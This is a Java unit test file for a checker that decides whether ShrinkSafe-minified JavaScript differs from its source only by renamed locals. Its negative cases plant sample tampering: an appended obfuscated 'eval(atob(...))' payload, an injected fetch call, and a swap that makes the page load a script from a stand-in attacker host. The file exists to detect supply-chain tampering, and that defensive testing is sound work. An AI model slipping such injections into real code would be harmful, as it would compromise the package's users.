package dev.divergence.registry.npm;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/** Dojo ShrinkSafe's output, shaped as commons-validator 1.3.1 shipped validateByte-compress.js. */
public class JsShrinkSafeTest {

    public static final String SOURCE = "/* license */\n"
            + "    function validateByte(form) {\n"
            + "        var bValid = true;\n"
            + "        var focusField = null, i = 0;\n"
            + "        var oByte = eval('new ' + jcv_retrieveFormName(form) + '_ByteValidations()');\n"
            + "        for (var x in oByte) {\n"
            + "            var field = form[oByte[x][0]];\n"
            + "            var value = field.value\n"
            + "            if (value.length > 0) value = '\\[' + value;\n"
            + "            else if (i == 0) { focusField = field; };\n"
            + "        }\n"
            + "        jcv_handleErrors(value, focusField);\n"
            + "        return bValid;\n"
            + "    }\n";

    public static final String COMPRESSED = "function validateByte(_1){\n"
            + "var _2=true;\n"
            + "var _3=null,i=0;\n"
            + "var _6=eval(\"new \"+jcv_retrieveFormName(_1)+\"_ByteValidations()\");\n"
            + "for(var x in _6){\n"
            + "var _8=_1[_6[x][0]];\n"
            + "var _9=_8.value;\n"
            + "if(_9.length>0){\n_9=\"[\"+_9;\n}else{\nif(i==0){\n_3=_8;\n}\n}\n"
            + "}\n"
            + "jcv_handleErrors(_9,_3);\n"
            + "return _2;\n"
            + "}\n";

    private static boolean same(String source, String compressed) {
        return JsShrinkSafe.sameProgram(source.getBytes(StandardCharsets.UTF_8),
                compressed.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void shrinkSafesPrintingWithLocalsRenamedIsTheSameProgram() {
        assertTrue(same(SOURCE, COMPRESSED));
    }

    @Test
    void anythingBeyondRenamingLocalsIsNotTheSameProgram() {
        // a payload appended, or put in place of a string's value
        assertFalse(same(SOURCE, COMPRESSED + "eval(atob(\"Y3VybA==\"));\n"));
        assertFalse(same(SOURCE, COMPRESSED.replace("\"new \"", "\"fetch('//x');new \"")));
        // a global (jcv_handleErrors) or a property (.value) renamed: another function, another field
        assertFalse(same(SOURCE, COMPRESSED.replace("jcv_handleErrors(", "_a(")));
        assertFalse(same(SOURCE, COMPRESSED.replace("_8.value", "_8._9")));
        // two locals to one name, or a local to a _N name the source itself uses
        assertFalse(same(SOURCE, COMPRESSED.replace("_3", "_2")));
        assertFalse(same(SOURCE.replace("jcv_handleErrors(", "_d("), COMPRESSED.replace("_9", "_d")
                .replace("jcv_handleErrors(", "_d(")));
        // braces around more than the one statement of a body change what runs conditionally
        assertFalse(same("function f(a) {\n if (a) g();\n h();\n}\n", "function f(_1){\nif(_1){\ng();\nh();\n}\n}\n"));
        // a semicolon where the source's line break is no statement end: a = b(c) is not a = b; (c)
        assertFalse(same("function f(b, c) {\n var a = b\n (c)\n}\n", "function f(_1,_2){\nvar _3=_1;\n(_2);\n}\n"));
        // a line break moved into a restricted production: return x is not return; x
        assertFalse(same("function f(x) {\n return x;\n}\n", "function f(_1){\nreturn\n_1;\n}\n"));
    }

    /** Red team round 5 (case1): ShrinkSafe renames a function's parameters and locals in that function only. */
    @Test
    void renamingIsScopedToTheFunctionDeclaringTheName() {
        String source = "function mirror(primary) {\n    return primary;\n}\n"
                + "var primary = \"https://attacker.example/p.js\";\nvar cdn = \"https://cdn.example/widgets.js\";\n"
                + "function fallback(cdn) {\n    return cdn;\n}\n"
                + "document.write('<script src=\"' + cdn + '\"></scr' + 'ipt>');\n";
        String honest = "function mirror(_1){return _1;}var primary=\"https://attacker.example/p.js\";"
                + "var cdn=\"https://cdn.example/widgets.js\";function fallback(_1){return _1;}"
                + "document.write(\"<script src=\\\"\"+cdn+\"\\\"></scr\"+\"ipt>\");";
        assertTrue(same(source, honest));
        // two globals printed as one _1 in different stretches: the page now writes primary's URL
        assertFalse(same(source, honest.replace("var primary=", "var _1=").replace("+cdn+", "+_1+")));
        // a global renamed at all
        assertFalse(same(source, honest.replace("var cdn=", "var _2=").replace("+cdn+", "+_2+")));
        // a nested function's own variable may reuse no _N of the function around it; its use of the outer one keeps it
        String nested = "function f(a) {\n  function g(b) {\n    return a + b;\n  }\n  return g;\n}\n";
        assertTrue(same(nested, "function f(_1){function g(_2){return _1+_2;}return g;}"));
        assertFalse(same(nested, "function f(_1){function g(_1){return _1+_1;}return g;}"));
        // a name free in a sibling function is the global, not the other function's renamed local
        String siblings = "function f(a) {\n  return a;\n}\nfunction g() {\n  return a;\n}\n";
        assertTrue(same(siblings, "function f(_1){return _1;}function g(){return a;}"));
        assertFalse(same(siblings, "function f(_1){return _1;}function g(){return _1;}"));
    }
}
